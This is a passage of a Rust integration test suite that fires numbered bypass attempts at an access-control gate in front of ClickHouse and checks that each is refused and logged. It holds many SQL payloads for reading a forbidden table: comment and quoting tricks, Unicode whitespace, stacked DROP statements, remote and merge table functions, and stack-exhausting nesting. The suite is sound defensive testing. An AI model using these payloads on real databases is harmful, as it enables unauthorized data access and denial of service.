//! Known attacks on a gate in front of ClickHouse, by their numbers in the project's list, sent to the running house.
//!
//! 74 is not here: whether a view, or a table of an engine that reads others, may be read is the grants' matter, for the
//! statement names nothing but the view.

use std::fmt::Write;

use serde_json::json;

use crate::support::{
    client::{Answer, get, post, send},
    house::{House, Plan},
    issuer::Issuer,
    raw::encoded,
    recorder::{Heard, Recorder},
    script::Script,
};

/// Analysts may read one table and engineers fill it; clients also read what drivers ask for when they connect.
const RULES: &str = r#"rules:
  - name: analysts
    whom: {groups: [analysts]}
    act_as: analyst
    allow: [{effects: [read], tables: ["default.events"]}]
    system: none
  - name: engineers
    whom: {groups: [engineers]}
    act_as: writer
    allow: [{effects: [read, insert], tables: ["default.events"]}]
    system: none
  - name: clients
    whom: {groups: [clients]}
    act_as: analyst
    allow: [{effects: [read], tables: ["default.events", "system.*"]}]
  - name: auditors
    whom: {groups: [auditors]}
    act_as: analyst
    allow: [{effects: [read], tables: ["*.*"], deny: ["sec.secret"]}]
"#;

/// Statements about a whole database, and what they are for one who may read all but one of its tables. The names are the
/// business of `system.tables`.
const WHOLE_DATABASES: &[(&str, Option<(&str, &str)>)] = &[
    ("CHECK TABLE sec.secret", Some(("table-denied", "sec.secret"))),
    ("CHECK DATABASE sec", Some(("table-denied", "`CHECK DATABASE` reaches all of `sec`"))),
    ("CHECK DATABASE `sec`", Some(("table-denied", "`CHECK DATABASE` reaches all of `sec`"))),
    ("CHECK ALL TABLES", Some(("table-denied", "`CHECK ALL TABLES` reaches all of `*`"))),
    ("SHOW CREATE DATABASE sec", Some(("table-denied", "denies sec.secret"))),
    ("SHOW DATABASE sec", Some(("table-denied", "denies sec.secret"))),
    ("EXISTS DATABASE sec", Some(("table-denied", "denies sec.secret"))),
    ("SELECT * FROM merge('sec', '.*')", Some(("table-function-not-allowed", "merge"))),
    ("CHECK DATABASE pub", None),
    ("SHOW CREATE DATABASE pub", None),
    ("EXISTS DATABASE pub", None),
    ("SHOW TABLES FROM sec", None),
    ("SHOW DICTIONARIES IN sec", None),
];

/// An attack by its body alone: number, body, status, reason, what the answer says.
type ByBody<'a> = (u16, &'a str, u16, &'a str, &'a str);

/// An attack by its address too: number, address, body, status, reason, what the answer says. The address is readable:
/// what is not allowed there is encoded before it is sent, and `%` stands for itself.
type ByAddress<'a> = (u16, &'a str, &'a str, u16, &'a str, &'a str);

struct Attack<'a> {
    number: u16,
    request: Vec<u8>,
    status: u16,
    reason: &'a str,
    says: &'a str,
    /// The name of the statement's node; empty where it is not looked at.
    kind: &'a str,
}

/// The forbidden table is named.
const NAMES_IT: (u16, &str, &str) = (403, "table-not-allowed", "sec.secret");

/// The house, and the callers who attack it.
struct Scene {
    issuer: Issuer,
    recorder: Recorder,
    house: House,
}

impl Scene {
    async fn begin() -> Self {
        let (issuer, recorder) = (Issuer::start().await, Recorder::start(Script::ok("1\n")).await);
        let house = Plan::new(&issuer.url, &[&recorder.url]).policy("10-rules.yaml", RULES).start().await;
        Self { issuer, recorder, house }
    }

    fn token(&self, group: &str) -> String {
        self.issuer.token().groups(&[group]).make()
    }

    fn by_body<'a>(&self, group: &str, rows: &[ByBody<'a>]) -> Vec<Attack<'a>> {
        let rows: Vec<ByAddress<'_>> = rows.iter().map(|&(number, body, status, reason, says)| (number, "/", body, status, reason, says)).collect();
        self.by_address(group, &rows)
    }

    fn by_address<'a>(&self, group: &str, rows: &[ByAddress<'a>]) -> Vec<Attack<'a>> {
        let token = self.token(group);
        let attack = |&(number, address, body, status, reason, says): &ByAddress<'a>| {
            let request = post(&encoded(address), &token, body).into_bytes();
            Attack { number, request, status, reason, says, kind: "" }
        };
        rows.iter().map(attack).collect()
    }

    /// Sends each, and looks at the answer, at the record and at what the upstream saw; all that is wrong is told at once.
    async fn refuses(&self, attacks: Vec<Attack<'_>>) {
        let (records, asked) = (self.house.records().len(), self.recorder.asked().len());
        let mut wrong = String::new();
        let mut answers: Vec<Answer> = Vec::new();
        for attack in &attacks {
            let answer = send(&self.house, &attack.request).await;
            let (status, reason, text) = (answer.status, answer.header("x-keyhouse-reason"), answer.text());
            let code = format!("Code: {}. DB::Exception: ", answer.header("x-clickhouse-exception-code").unwrap_or_default());
            if (status, reason) != (attack.status, Some(attack.reason)) || !text.contains(attack.says) || !text.starts_with(&code) {
                attack.complains(&mut wrong, &format!("{status} {reason:?}: {}", text.trim_end()));
            }
            answers.push(answer);
        }
        let kept = self.house.wait_records(records + attacks.len()).await.split_off(records);
        for (attack, answer) in attacks.iter().zip(&answers) {
            let of: Vec<_> = kept.iter().filter(|record| record["request_id"].as_str() == answer.header("x-keyhouse-request-id")).collect();
            let right = |record: &serde_json::Value| {
                (&record["outcome"], &record["reason"], &record["status"]) == (&json!("refused"), &json!(attack.reason), &json!(attack.status))
                    && (attack.kind.is_empty() || record["kind"] == attack.kind)
            };
            if of.len() != 1 || !right(of[0]) {
                let came: Vec<_> = of.iter().map(|record| [&record["outcome"], &record["reason"], &record["status"], &record["kind"]]).collect();
                attack.complains(&mut wrong, &format!("recorded as {came:?}"));
            }
        }
        assert!(wrong.is_empty(), "{wrong}");
        assert_eq!(self.house.records().len(), records + attacks.len(), "one record each");
        let heard: Vec<String> = self.recorder.requests().iter().map(|heard| heard.text()).collect();
        assert!(heard.is_empty() && self.recorder.asked().len() == asked, "{heard:?}");
    }
}

impl Attack<'_> {
    fn complains(&self, wrong: &mut String, came: &str) {
        let request = String::from_utf8_lossy(&self.request);
        let (head, body) = request.split_once("\r\n\r\n").unwrap();
        let (line, shown) = (head.lines().next().unwrap(), body.chars().take(200).collect::<String>());
        writeln!(wrong, "{}: {line} | {shown}\n   came {came}\n   want {} {} {:?} {}", self.number, self.status, self.reason, self.says, self.kind)
            .unwrap();
    }
}

/// 47 to 58: what another lexer would take for strings, comments or spaces. All of them name `sec.secret`.
const TEXTS: &[(u16, &str)] = &[
    (47, r"SELECT '\' || ' , (SELECT s FROM sec.secret) -- '"),
    (47, r#"SELECT "\" || " , (SELECT s FROM sec.secret) -- ""#),
    (47, r"SELECT '\\\' || ' , (SELECT s FROM sec.secret) -- '"),
    (48, "SELECT $x$ ' $x$, (SELECT s FROM sec.secret), $x$ ' $x$"),
    (48, "SELECT $$ ' $$, (SELECT s FROM sec.secret), $$ ' $$"),
    (48, "SELECT $a$ $b$ ' $b$ $a$, (SELECT s FROM sec.secret), $a$ ' $a$"),
    (48, "SELECT x'27', (SELECT s FROM sec.secret), b'00100111'"),
    (49, "SELECT ‘ ' ’, (SELECT s FROM sec.secret), ‘ ' ’"),
    (50, "SELECT 1, /* /* */ ' */ (SELECT s FROM sec.secret) /* /* ' -- */ */\n AS x"),
    (51, "SELECT 1 # '\n, (SELECT s FROM sec.secret) # '\n"),
    (51, "SELECT 1 // '\n, (SELECT s FROM sec.secret) // '\n"),
    (51, "SELECT 1 #! '\n, (SELECT s FROM sec.secret) #! '\n"),
    (51, "SELECT 1 --'\n, (SELECT s FROM sec.secret) --'\n"),
    (52, "SELECT 1 /*!50000 */, (SELECT s FROM sec.secret) /*!50000 */"),
    (53, r"SELECT * FROM sec.`secr\x65t`"),
    (53, r#"SELECT * FROM "sec"."secr\x65t""#),
    (53, r#"SELECT * FROM `\x73ec`."sec\x72et""#),
    (53, "SELECT * FROM `sec`.\"secret\""),
    (54, "SELECT * FROM “sec”.“secret”"),
    (55, "SELECT * FROM sec /* /* */ */ . /* x */ secret"),
    (55, "SELECT * FROM sec\n//c\n.secret"),
    (55, "SELECT * FROM sec # c\n . # c\n secret"),
    (55, "SELECT * FROM sec\u{200b}.\u{200b}secret"),
    (55, "SELECT\u{a0}*\u{a0}FROM\u{a0}sec.secret"),
    (55, "SELECT\u{3000}*\u{3000}FROM\u{3000}sec.secret"),
    (55, "SELECT\u{2003}*\u{2003}FROM\u{2003}sec\u{2003}.secret"),
    (55, "SELECT\u{b}*\u{b}FROM\u{b}sec.secret"),
    (55, "SELECT\u{c}*\u{c}FROM\u{c}sec.secret"),
    (56, "\u{feff}SELECT s FROM sec.secret"),
    (56, "((FROM sec.secret))"),
    (56, "(((SELECT s FROM sec.secret)))"),
    (56, "/* c */ -- c\n # c\n WITH 1 AS x SELECT s FROM sec.secret"),
    (57, "SELECT s FROM sec.secret;;"),
    (57, "SELECT s FROM sec.secret; -- x"),
    (58, "SELECT 1 --\r\n, (SELECT s FROM sec.secret)"),
    (58, "SELECT 1 --\u{2028}\n, (SELECT s FROM sec.secret)"),
    (58, "SELECT 1 /* -- */, (SELECT s FROM sec.secret)"),
];

/// 56 to 59: what is no statement, or more than one.
const NO_TEXTS: &[ByBody<'_>] = &[
    (56, ";SELECT 1", 400, "not-understood", "where a statement was expected"),
    (56, ";SELECT s FROM sec.secret", 400, "not-understood", "where a statement was expected"),
    (57, "SELECT 1; DROP TABLE events", 400, "several-statements", "one statement"),
    (57, "SELECT 1; SELECT 2", 400, "several-statements", "one statement"),
    (57, "SELECT 1;; -- x\n ; SELECT s FROM sec.secret", 400, "several-statements", "one statement"),
    (57, r"SELECT 1\G DROP TABLE events", 400, "not-understood", "the end of the statement"),
    (59, "SELECT 1\0, (SELECT s FROM sec.secret)", 400, "not-understood", "cannot be read"),
    (59, "SELECT 1 FROM events\0", 400, "not-understood", "cannot be read"),
    (59, "SELECT 1 FROM sec.`secret\0`", 403, "table-not-allowed", "sec.secret"),
    (59, r"SELECT * FROM `ev\xffents`", 400, "not-understood", "UTF-8"),
    (51, "SELECT 1 #x\n", 400, "not-understood", "cannot be read"),
    (48, "SELECT $x$ '", 400, "not-understood", "cannot be read"),
    (50, "SELECT 1 /* /* */ , (SELECT s FROM sec.secret)", 400, "not-understood", "cannot be read"),
];

#[tokio::test]
async fn no_attack_on_the_text_reaches_the_upstream() {
    let scene = Scene::begin().await;
    let (status, reason, says) = NAMES_IT;
    let rows = TEXTS.iter().map(|&(number, sql)| (number, sql, status, reason, says)).collect::<Vec<_>>();
    let mut attacks = scene.by_body("analysts", &rows);
    attacks.extend(scene.by_body("analysts", NO_TEXTS));
    for at in ["SELECT 'x\u{1}", "SELECT * FROM `x\u{1}", "SELECT 1 -- \u{1}"] {
        let mut request = post("/", &scene.token("analysts"), at).into_bytes();
        *request.last_mut().unwrap() = 0xff;
        attacks.push(Attack { number: 59, request, status: 400, reason: "not-utf8", says: "UTF-8", kind: "" });
    }
    scene.refuses(attacks).await;
}

/// 60: nesting that would break the stack of a reader that calls itself, each with what closes it.
const NESTS: &[(&str, &str, &str)] = &[
    ("SELECT ", "(", "1"),
    ("SELECT ", "[", "1"),
    ("SELECT ", "f(", "1"),
    ("SELECT ", "(SELECT ", "1"),
    ("SELECT * FROM ", "(SELECT * FROM ", "events"),
    ("SELECT * FROM ", "(events JOIN ", "events"),
    ("SELECT * FROM ", "view(SELECT * FROM ", "events"),
    ("SELECT * FROM ", "f(", "1"),
    ("SELECT ", "CASE WHEN ", "1"),
    ("SELECT ", "INTERVAL ", "1"),
    ("SELECT ", "INTERVAL (", "1"),
    ("SELECT ", "CAST(", "1"),
    ("SELECT ", "EXISTS(SELECT ", "1"),
    ("SELECT 1::", "Array(", "Int8"),
    ("SELECT {x:", "Array(", "Int8"),
    ("SELECT a", "[b", ""),
    ("SELECT 1 = ", "ANY(SELECT 1 = ", "1"),
    ("SELECT 1 IN ", "(", "1"),
    ("", "(", "SELECT 1"),
    ("", "WITH a AS (", "SELECT 1"),
    ("", "EXPLAIN AST ", "SELECT 1"),
    ("", "EXPLAIN ", "SELECT 1"),
    ("", "EXECUTE AS a ", "SELECT 1"),
    ("", "SELECT 1 UNION ALL (", "SELECT 1"),
    ("SET a = ", "{'a':", "1"),
    ("SET param_a = ", "[", "1"),
    ("SELECT * ", "APPLY(x -> ", "1"),
    ("SELECT trim(BOTH ", "trim(BOTH ", "1"),
    ("SELECT sum(1) OVER (ORDER BY ", "sum(1) OVER (ORDER BY ", "1"),
    ("SELECT * FROM events ", "WHERE (", "1"),
];

#[tokio::test]
async fn no_nesting_and_no_length_breaks_the_reader() {
    let scene = Scene::begin().await;
    let token = scene.token("analysts");
    let attack = |sql: String, status, reason, says| Attack { number: 60, request: post("/", &token, &sql).into(), status, reason, says, kind: "" };
    let nests = NESTS.iter().map(|(before, again, inside)| attack(format!("{before}{}{inside}", again.repeat(10_000)), 400, "not-understood", ""));
    scene.refuses(nests.collect()).await;
    let long = [
        format!("SELECT 1{}", " UNION ALL SELECT 1".repeat(50_000)),
        format!("SELECT 1 FROM events WHERE id IN ({}1)", "1000000, ".repeat(120_000)),
        format!("SELECT {}1", "(".repeat(300_000)),
    ];
    scene.refuses(long.map(|sql| attack(sql, 413, "statement-too-long", "262144 bytes")).into()).await;
}

/// 61 to 63, 75 to 78, 82: every place of a statement where the forbidden table can be named so that it is read.
const PLACES: &[(u16, &str)] = &[
    (61, "FROM sec.secret SELECT s"),
    (61, "FROM sec.secret"),
    (61, "FROM events |> WHERE id IN (SELECT id FROM sec.secret) |> SELECT id"),
    (61, "FROM events |> JOIN sec.secret USING id"),
    (61, "FROM events |> , sec.secret"),
    (61, "FROM events |> UNION ALL (SELECT s FROM sec.secret)"),
    (61, "FROM events |> SELECT id |> EXCEPT DISTINCT (FROM sec.secret)"),
    (61, "FROM events |> EXTEND (SELECT s FROM sec.secret) AS x"),
    (61, "FROM events |> AGGREGATE max((SELECT s FROM sec.secret)) AS x GROUP BY id"),
    (61, "FROM events |> AGGREGATE count() AS x GROUP BY (SELECT s FROM sec.secret)"),
    (61, "FROM events |> SET id = (SELECT s FROM sec.secret)"),
    (61, "FROM events |> ORDER BY (SELECT s FROM sec.secret) |> LIMIT 1"),
    (61, "FROM events |> LIMIT (SELECT id FROM sec.secret)"),
    (61, "FROM events |> ARRAY JOIN (SELECT groupArray(s) FROM sec.secret) AS x"),
    (62, "SELECT (SELECT s FROM sec.secret) FROM events"),
    (62, "SELECT 1 FROM events PREWHERE (SELECT s FROM sec.secret) = 'x'"),
    (62, "SELECT 1 FROM events WHERE (SELECT s FROM sec.secret) = 'x'"),
    (62, "SELECT 1 FROM events ORDER BY (SELECT s FROM sec.secret)"),
    (62, "SELECT 1 FROM events ORDER BY 1 WITH FILL FROM (SELECT id FROM sec.secret) TO 2"),
    (62, "SELECT 1 FROM events LIMIT (SELECT id FROM sec.secret)"),
    (62, "SELECT 1 FROM events LIMIT 1 OFFSET (SELECT id FROM sec.secret)"),
    (62, "SELECT 1 FROM events LIMIT 1, (SELECT id FROM sec.secret)"),
    (62, "SELECT 1 FROM events OFFSET (SELECT id FROM sec.secret) ROWS"),
    (62, "SELECT 1 FROM events OFFSET 1 ROW FETCH FIRST (SELECT id FROM sec.secret) ROWS ONLY"),
    (62, "SELECT 1 FROM events LIMIT 1 BY (SELECT s FROM sec.secret)"),
    (62, "SELECT DISTINCT ON ((SELECT s FROM sec.secret)) id FROM events"),
    (62, "SELECT count() FROM events GROUP BY (SELECT s FROM sec.secret)"),
    (62, "SELECT count() FROM events GROUP BY GROUPING SETS (((SELECT s FROM sec.secret)), (id))"),
    (62, "SELECT count() FROM events GROUP BY ROLLUP((SELECT s FROM sec.secret))"),
    (62, "SELECT count() FROM events HAVING (SELECT s FROM sec.secret) = 'x'"),
    (62, "SELECT 1 FROM events QUALIFY (SELECT s FROM sec.secret) = 'x'"),
    (62, "SELECT max(id) OVER w FROM events WINDOW w AS (ORDER BY (SELECT s FROM sec.secret))"),
    (62, "SELECT max(id) OVER (PARTITION BY (SELECT s FROM sec.secret)) FROM events"),
    (62, "SELECT max(id) OVER (ORDER BY id ROWS BETWEEN (SELECT id FROM sec.secret) PRECEDING AND CURRENT ROW) FROM events"),
    (62, "SELECT id, t FROM events ORDER BY id WITH FILL INTERPOLATE (t AS (SELECT s FROM sec.secret))"),
    (62, "SELECT x FROM events ARRAY JOIN (SELECT groupArray(s) FROM sec.secret) AS x"),
    (62, "SELECT 1 FROM events AS p JOIN events AS q ON p.id = (SELECT id FROM sec.secret)"),
    (62, "SELECT sum(id) FILTER (WHERE id IN (SELECT id FROM sec.secret)) FROM events"),
    (62, "SELECT arrayMap(x -> (SELECT s FROM sec.secret), [1])"),
    (62, "WITH x -> (SELECT s FROM sec.secret) AS f SELECT arrayMap(y -> y, [1])"),
    (62, "WITH (SELECT s FROM sec.secret) AS x SELECT x"),
    (62, "SELECT CASE WHEN 1 THEN (SELECT s FROM sec.secret) END"),
    (62, "SELECT CASE (SELECT s FROM sec.secret) WHEN 1 THEN 2 ELSE 3 END"),
    (62, "SELECT now() + INTERVAL (SELECT id FROM sec.secret) DAY"),
    (62, "SELECT substring((SELECT s FROM sec.secret) FROM 1 FOR 3)"),
    (62, "SELECT trim(BOTH 'x' FROM (SELECT s FROM sec.secret))"),
    (62, "SELECT extract(YEAR FROM (SELECT s FROM sec.secret))"),
    (62, "SELECT position('x' IN (SELECT s FROM sec.secret))"),
    (62, "SELECT dateDiff(DAY, now(), (SELECT s FROM sec.secret))"),
    (62, "SELECT (SELECT s FROM sec.secret)::String"),
    (62, "SELECT CAST((SELECT s FROM sec.secret) AS String)"),
    (62, "SELECT * REPLACE((SELECT s FROM sec.secret) AS t) FROM events"),
    (62, "SELECT * APPLY(x -> (SELECT s FROM sec.secret)) FROM events"),
    (62, "SELECT COLUMNS('t') APPLY(x -> (SELECT s FROM sec.secret)) FROM events"),
    (62, "SELECT * APPLY(quantile((SELECT id FROM sec.secret))) FROM events"),
    (62, "SELECT quantile(0.5)((SELECT id FROM sec.secret))"),
    (62, "SELECT quantile((SELECT id FROM sec.secret))(id) FROM events"),
    (62, "SELECT 1 = ANY(SELECT id FROM sec.secret)"),
    (62, "SELECT 1 = ALL(SELECT id FROM sec.secret)"),
    (62, "SELECT 1 > SOME(SELECT id FROM sec.secret)"),
    (62, "SELECT EXISTS(SELECT 1 FROM sec.secret)"),
    (62, "SELECT NOT EXISTS(SELECT 1 FROM sec.secret)"),
    (62, "SELECT [(SELECT s FROM sec.secret)]"),
    (62, "SELECT [1][(SELECT id FROM sec.secret)]"),
    (62, "SELECT ((SELECT * FROM sec.secret)).1"),
    (62, "SELECT 1 ? (SELECT s FROM sec.secret) : 'x'"),
    (62, "SELECT 1 BETWEEN 0 AND (SELECT id FROM sec.secret)"),
    (62, "SELECT 'x' LIKE (SELECT s FROM sec.secret)"),
    (62, "SELECT 1 IS DISTINCT FROM (SELECT id FROM sec.secret)"),
    (62, "SELECT 1 UNION ALL SELECT id FROM sec.secret"),
    (62, "SELECT 1 EXCEPT (SELECT 2 INTERSECT SELECT id FROM sec.secret)"),
    (62, "SELECT * FROM (SELECT * FROM (SELECT * FROM sec.secret))"),
    (62, "SELECT count() FROM numbers((SELECT id FROM sec.secret))"),
    (62, "SELECT count() FROM numbers(1 IN sec.secret)"),
    (63, "SELECT * FROM events WHERE (id, t) IN sec.secret"),
    (63, "SELECT * FROM events WHERE (id, t) IN `sec`.`secret`"),
    (63, "SELECT * FROM events WHERE (id, t) IN (sec.secret)"),
    (63, "SELECT * FROM events WHERE (id, t) IN ((sec.secret))"),
    (63, "SELECT * FROM events WHERE (id, t) IN (sec.secret AS x)"),
    (63, "SELECT * FROM events WHERE (id, t) NOT IN sec.secret"),
    (63, "SELECT * FROM events WHERE (id, t) GLOBAL IN sec.secret"),
    (63, "SELECT * FROM events WHERE (id, t) GLOBAL NOT IN sec.secret"),
    (63, "SELECT * FROM events WHERE (id, t) IN sec.secret AND 1"),
    (63, "SELECT * FROM events WHERE (id, t) IN sec.secret = 1"),
    (63, "SELECT * FROM events WHERE (id, t) IN sec.secret ? 1 : 0"),
    (63, "SELECT * FROM events WHERE (id, t) IN (((sec.secret) AS x) AS y)"),
    (63, "SELECT * FROM events WHERE (id, t) IN + sec.secret"),
    (63, "SELECT * FROM events WHERE (id, t) IN + (sec.secret)"),
    (63, "SELECT * FROM events WHERE (id, t) IN sec.secret IS NULL"),
    (63, "SELECT * APPLY(x -> x IN sec.secret) FROM events"),
    (63, "SELECT arrayMap(x -> x IN sec.secret, [(1, 'x')])"),
    (63, "SELECT in(*, sec.secret) FROM events"),
    (63, "SELECT in(ALL (id, t), sec.secret) FROM events"),
    (63, "SELECT in((id, t), (sec.secret AS x)) FROM events"),
    (63, "SELECT in((id, t), ((sec.secret AS x) AS y)) FROM events"),
    (63, "SELECT * FROM events WHERE (id, t) IN + + sec.secret"),
    (63, "SELECT in((id, t), sec.secret) FROM events"),
    (63, "SELECT `in`((id, t), sec.secret) FROM events"),
    (63, "SELECT in((id, t), (sec.secret)) FROM events"),
    (63, "SELECT notNullIn((id, t), sec.secret) FROM events"),
    (75, "WITH events AS (SELECT * FROM sec.secret) SELECT * FROM events"),
    (75, "WITH secret AS (SELECT 1) SELECT * FROM sec.secret"),
    (75, "WITH sec AS (SELECT 1) SELECT * FROM sec.secret"),
    (75, "WITH `sec.secret` AS (SELECT 1 AS s) SELECT * FROM sec.secret"),
    (75, "WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM x JOIN sec.secret ON 1) SELECT * FROM x"),
    (75, "WITH x AS MATERIALIZED (SELECT * FROM sec.secret) SELECT * FROM x"),
    (76, "SELECT * FROM (events JOIN sec.secret USING id)"),
    (76, "SELECT * FROM events, sec.secret"),
    (76, "SELECT * FROM events CROSS JOIN sec.secret"),
    (76, "SELECT * FROM events PASTE JOIN sec.secret"),
    (76, "SELECT * FROM events ASOF JOIN sec.secret USING (id, t)"),
    (76, "SELECT * FROM events NATURAL JOIN sec.secret"),
    (76, "SELECT * FROM events GLOBAL ANY LEFT JOIN sec.secret USING id"),
    (76, "SELECT * FROM events FULL OUTER JOIN sec.secret USING id"),
    (77, "EXPLAIN SELECT (SELECT s FROM sec.secret)"),
    (77, "EXPLAIN QUERY TREE SELECT (SELECT s FROM sec.secret)"),
    (77, "EXPLAIN PIPELINE SELECT (SELECT s FROM sec.secret)"),
    (77, "EXPLAIN ESTIMATE SELECT * FROM sec.secret"),
    (77, "EXPLAIN SYNTAX SELECT * FROM sec.secret"),
    (78, "DESCRIBE (SELECT * FROM sec.secret)"),
    (78, "DESCRIBE TABLE sec.secret"),
    (82, "SELECT count() FROM events WHERE (SELECT s FROM sec.secret) LIKE 'T%'"),
];

/// 65 to 73, 77 to 79: what reaches it by another way.
const WAYS: &[ByBody<'_>] = &[
    (63, "SELECT globalNullInIgnoreSet((id, t), sec.secret) FROM events", 403, "function-not-allowed", "globalNullInIgnoreSet"),
    (65, "SELECT * FROM merge('sec', '^sec')", 403, "table-function-not-allowed", "merge"),
    (65, "SELECT * FROM merge('sec')", 403, "table-function-not-allowed", "merge"),
    (65, "SELECT * FROM merge(concat('s', 'ec'), '.*')", 403, "computed-name", "merge"),
    (65, "SELECT * FROM merge((SELECT 'sec'), '.*')", 403, "computed-name", "merge"),
    (65, "SELECT * FROM merge(REGEXP('se.'), '.*')", 403, "computed-name", "merge"),
    (65, "SELECT * FROM merge(currentDatabase(), '.*')", 403, "computed-name", "merge"),
    (65, "WITH 'sec' AS d SELECT * FROM merge(d, '.*')", 403, "computed-name", "run time"),
    (65, "SELECT * FROM `merge` /* x */ ('sec', '.*')", 403, "table-function-not-allowed", "merge"),
    (66, "SELECT * FROM view(SELECT * FROM sec.secret)", 403, "table-function-not-allowed", "view"),
    (66, "SELECT * FROM VIEW(SELECT * FROM sec.secret)", 403, "table-function-not-allowed", "VIEW"),
    (66, "SELECT * FROM viewIfPermitted(SELECT s FROM sec.secret ELSE null('s String'))", 403, "table-function-not-allowed", "null"),
    (66, "SELECT * FROM viewExplain('EXPLAIN', '', (SELECT s FROM sec.secret))", 403, "table-function-not-allowed", "viewExplain"),
    (66, "SELECT * FROM eval('SELECT s FROM sec.secret')", 403, "computed-name", "eval"),
    (67, "SELECT * FROM loop(sec.secret) LIMIT 1", 403, "table-function-not-allowed", "loop"),
    (67, "SELECT * FROM loop('sec', 'secret') LIMIT 1", 403, "table-function-not-allowed", "loop"),
    (67, "SELECT * FROM loop(`sec.secret`) LIMIT 1", 403, "table-function-not-allowed", "loop"),
    (68, "SELECT * FROM remote('127.0.0.1', sec.secret)", 403, "table-function-not-allowed", "remote"),
    (68, "SELECT * FROM remote('127.0.0.1', 'sec', 'secret')", 403, "table-function-not-allowed", "remote"),
    (68, "SELECT * FROM remote('127.0.0.1', 'sec.secret')", 403, "table-function-not-allowed", "remote"),
    (68, "SELECT * FROM remote('127.0.0.1', concat('s', 'ec'), 'secret')", 403, "computed-name", "remote"),
    (68, "SELECT * FROM remote('127.0.0.1', view(SELECT * FROM sec.secret))", 403, "table-function-not-allowed", "remote"),
    (68, "SELECT * FROM remote('127.0.0.1', sec.secret, 'admin', 'guess')", 403, "table-function-not-allowed", "remote"),
    (68, "SELECT * FROM remote('127.0.0.1')", 403, "table-function-not-allowed", "remote"),
    (68, "SELECT * FROM remoteSecure('127.0.0.1', sec.secret)", 403, "table-function-not-allowed", "remoteSecure"),
    (68, "SELECT * FROM cluster(main, sec.secret)", 403, "table-function-not-allowed", "cluster"),
    (68, "SELECT * FROM clusterAllReplicas('main', 'sec', 'secret')", 403, "table-function-not-allowed", "clusterAllReplicas"),
    (69, "SELECT * FROM mergeTreeIndex('sec', 'secret')", 403, "table-function-not-allowed", "mergeTreeIndex"),
    (69, "SELECT * FROM mergeTreeIndex('sec', 'secret', with_marks = 1)", 403, "table-function-not-allowed", "mergeTreeIndex"),
    (69, "SELECT * FROM mergeTreeProjection('sec', 'secret', 'p')", 403, "table-function-not-allowed", "mergeTreeProjection"),
    (69, "SELECT * FROM mergeTreeTextIndex('sec', 'secret', 'i')", 403, "table-function-not-allowed", "mergeTreeTextIndex"),
    (69, "SELECT * FROM mergeTreeAnalyzeIndexes('sec', 'secret')", 403, "table-function-not-allowed", "mergeTreeAnalyzeIndexes"),
    (69, "SELECT * FROM mergeTreeAnalyzeIndexesUUID('0d2e9b3a-0000-4000-8000-000000000000')", 403, "computed-name", "mergeTreeAnalyzeIndexesUUID"),
    (69, "SELECT * FROM mergeTreeCodecBlockCounts('sec', 'secret')", 403, "table-function-not-allowed", "mergeTreeCodecBlockCounts"),
    (69, "SELECT * FROM timeSeriesData(sec.secret)", 403, "table-function-not-allowed", "timeSeriesData"),
    (69, "SELECT * FROM prometheusQuery(sec, secret, 'up', 0)", 403, "table-function-not-allowed", "prometheusQuery"),
    (70, "SELECT * FROM dictionary('sec.d')", 403, "table-function-not-allowed", "dictionary"),
    (70, "SELECT * FROM dictionary(sec.d)", 403, "table-function-not-allowed", "dictionary"),
    (70, "SELECT dictGet('sec.d', 's', 1)", 403, "function-not-allowed", "dictGet"),
    (70, "SELECT dictGet(sec.d, 's', 1)", 403, "function-not-allowed", "dictGet"),
    (70, "SELECT dictGet(concat('sec', '.d'), 's', 1)", 403, "computed-name", "dictGet"),
    (70, "SELECT dictGet((SELECT 'sec.d'), 's', 1)", 403, "computed-name", "dictGet"),
    (70, "WITH 'sec.d' AS d SELECT dictGet(d, 's', 1)", 403, "computed-name", "run time"),
    (70, "SELECT dictGetUInt64OrDefault('sec.d', 's', 1, 0)", 403, "function-not-allowed", "dictGetUInt64OrDefault"),
    (70, "SELECT dictHas('sec.d', 1)", 403, "function-not-allowed", "dictHas"),
    (70, "SELECT naiveBayesClassifier('sec.m', 'x')", 403, "function-not-allowed", "naiveBayesClassifier"),
    (70, "SELECT joinGet('sec.j', 'v', 1)", 403, "function-not-allowed", "joinGet"),
    (70, "SELECT joinGet(concat('sec', '.j'), 'v', 1)", 403, "computed-name", "joinGet"),
    (70, "SELECT joinGetOrNull(sec.j, 'v', 1)", 403, "function-not-allowed", "joinGetOrNull"),
    (71, "SELECT hasColumnInTable('sec', 'secret', 's')", 403, "function-not-allowed", "hasColumnInTable"),
    (71, "SELECT name FROM system.columns WHERE database = 'sec'", 403, "table-not-allowed", "system.columns"),
    (71, "SELECT * FROM information_schema.columns", 403, "table-not-allowed", "information_schema.columns"),
    (71, "SELECT * FROM INFORMATION_SCHEMA.TABLES", 403, "table-not-allowed", "INFORMATION_SCHEMA.TABLES"),
    (71, "SELECT getMaxTableNameLengthForDatabase('sec')", 403, "function-not-allowed", "getMaxTableNameLengthForDatabase"),
    (72, "SELECT * FROM `.inner_id.0d2e9b3a-0000-4000-8000-000000000000`", 403, "table-not-allowed", "default..inner_id."),
    (72, "SELECT * FROM `.inner.mv`", 403, "table-not-allowed", "default..inner.mv"),
    (72, "SELECT * FROM default.`.inner.mv`", 403, "table-not-allowed", "default..inner.mv"),
    (73, "SELECT * FROM pv(p = 'x')", 403, "table-function-not-allowed", "pv"),
    (73, "SELECT * FROM sec.pv(p = 'x')", 403, "table-function-not-allowed", "sec.pv"),
    (73, "SELECT * FROM default.numbers(p = 'x')", 403, "table-function-not-allowed", "default.numbers"),
    (73, "SELECT * FROM Numbers(p = 'x')", 403, "table-function-not-allowed", "Numbers"),
    (75, "SELECT * FROM (WITH pub2 AS (SELECT 1) SELECT 1), pub2", 403, "table-not-allowed", "default.pub2"),
    (77, "SELECT * FROM (EXPLAIN SELECT (SELECT s FROM sec.secret))", 403, "table-function-not-allowed", "viewExplain"),
    (77, "EXPLAIN ANALYZE SELECT * FROM sec.secret", 403, "table-not-allowed", "sec.secret"),
    (77, "EXPLAIN AST SELECT * FROM sec.secret", 403, "table-not-allowed", "sec.secret"),
    (78, "SHOW CREATE TABLE sec.secret", 403, "table-not-allowed", "sec.secret"),
    (78, "SHOW CREATE sec.secret", 403, "table-not-allowed", "sec.secret"),
    (78, "SHOW COLUMNS FROM secret FROM sec", 403, "table-not-allowed", "sec.secret"),
    (78, "EXISTS sec.secret", 403, "table-not-allowed", "sec.secret"),
    (78, "CHECK TABLE sec.secret", 403, "table-not-allowed", "sec.secret"),
